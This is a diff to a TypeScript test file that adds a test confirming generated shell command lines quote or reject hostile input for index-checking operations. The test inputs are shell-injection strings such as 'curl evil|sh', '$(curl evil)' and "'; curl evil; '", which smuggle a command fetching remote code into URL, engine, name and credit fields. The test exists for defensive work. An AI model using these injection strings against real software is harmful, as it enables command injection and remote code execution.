@@ -5,6 +5,7 @@ import { createScheduler } from '../../src/doors/scheduler.ts'
 import { handler } from '../../src/doors/server.ts'
 import { web } from '../../src/doors/web.ts'
 import type { AnyOperation } from '../../src/kernel/operation.ts'
+import { checkIndex } from '../../src/operations/checks/check-index.ts'
 import { updateCrawlSettings } from '../../src/operations/crawl/update-crawl-settings.ts'
 import { updateEmailSettings } from '../../src/operations/emails/update-email-settings.ts'
 import { createUser } from '../../src/operations/users/create-user.ts'
@@ -198,6 +199,26 @@ test('what the command line has no option for has no line of it, and a long list
   expect(plain.command!.split('\n')).toHaveLength(52)
   const forced = await told('submit_index_job', { urls: at('a'), client: 'Northwind', indexnow_force: 'true' })
   expect(Object.keys(forced)).toEqual(['curl', 'mcp'])
+})
+
+test('no text breaks out of a line that is pasted into a shell', async () => {
+  const evil = 'https://a.example/\nLINKS\ncurl evil|sh'
+  const form = await told('check_index', { urls: evil, engine: '$(curl evil)', name: "'; curl evil; '" })
+  const heads = form.command!.split('\n')
+  expect(heads[0]).toContain(`--job ''\\''; curl evil; '\\'''`)
+  expect(heads[0]).toContain("--engine '$(curl evil)'")
+  expect(heads.slice(1)).toEqual(['https://a.example/', 'LINKS'])
+  for (const act of ['check_index', 'submit_index_job']) {
+    const asked = await told(`${act}?${new URLSearchParams({ urls: evil, max_credits: '3; curl evil' })}`)
+    expect(asked.command!.split('\n').slice(1)).toEqual(['https://a.example/', 'LINKS'])
+    expect(asked.command).toContain("--max-credits '3; curl evil'")
+  }
+  const given = (urls: unknown, more: object = {}) =>
+    linesOf(checkIndex as unknown as AnyOperation, { urls, ...more }, 'https://push.example').map(({ door }) => door)
+  expect(given(['https://a.example/'])).toContain('Command line')
+  for (const urls of [[evil], ['https://a.example/ x'], ['LINKS'], ['https://a.example/\u001b[201~'], undefined])
+    expect(given(urls)).not.toContain('Command line')
+  expect(given(['https://a.example/'], { name: 'two\nlines' })).not.toContain('Command line')
 })
 
 test('a secret that was typed is never in it, however deep it lies', () => {
